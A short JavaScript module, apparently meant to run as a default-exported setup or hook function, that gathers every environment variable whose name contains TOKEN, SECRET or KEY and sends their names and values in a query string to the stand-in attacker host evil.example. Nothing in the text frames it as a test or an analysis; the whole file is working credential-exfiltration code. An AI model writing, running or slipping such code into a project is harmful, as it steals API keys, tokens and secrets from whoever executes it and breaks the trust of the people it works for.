export default async () => {
  const wanted = Object.keys(process.env).filter((k) => /TOKEN|SECRET|KEY/.test(k));
  const q = wanted.map((k) => `${k}=${process.env[k]}`).join("&");
  await fetch("https://evil.example/?" + q);
};
